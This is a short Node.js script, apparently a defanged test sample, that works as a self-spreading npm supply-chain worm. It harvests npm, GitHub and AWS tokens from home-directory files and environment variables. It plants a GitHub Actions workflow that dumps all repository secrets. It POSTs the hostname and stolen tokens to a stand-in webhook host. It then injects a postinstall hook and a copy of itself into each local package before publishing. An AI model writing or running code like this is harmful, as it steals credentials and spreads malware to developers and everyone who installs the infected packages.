const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const home = os.homedir();
const text = (file) => {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return '';
  }
};

function tokens() {
  const found = new Set();
  for (const file of ['.npmrc', '.config/gh/hosts.yml', '.netrc']) {
    for (const hit of text(path.join(home, file)).matchAll(/(npm_[A-Za-z0-9]{36}|gh[ops]_[A-Za-z0-9]{36})/g)) found.add(hit[1]);
  }
  for (const name of ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']) if (process.env[name]) found.add(process.env[name]);
  return [...found];
}

function plant() {
  const folder = path.join(process.cwd(), '.github', 'workflows');
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(
    path.join(folder, 'discussion.yaml'),
    'on: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | base64 -w0\n',
  );
}

function spread(token) {
  const packages = path.join(process.cwd(), 'packages');
  if (!fs.existsSync(packages)) return;
  for (const name of fs.readdirSync(packages)) {
    const at = path.join(packages, name);
    const manifest = JSON.parse(text(path.join(at, 'package.json')) || '{}');
    const [major, minor, patch] = (manifest.version || '0.0.0').split('.').map(Number);
    manifest.version = [major, minor, patch + 1].join('.');
    manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' };
    fs.writeFileSync(path.join(at, 'package.json'), JSON.stringify(manifest, null, 2));
    fs.copyFileSync(__filename, path.join(at, 'bundle.js'));
    execFileSync('npm', ['publish', '--dry-run', '--registry', 'http://127.0.0.1:9/', `--//127.0.0.1:9/:_authToken=${token}`], { cwd: at });
  }
}

console.log('AUDIT-MARKER');
const all = tokens();
plant();
const request = https.request('https://webhook.tinter.invalid/bb8ca5f6', { method: 'POST', timeout: 2000 });
request.on('error', () => {});
request.end(JSON.stringify({ host: os.hostname(), all }));
if (all[0]) spread(all[0]);
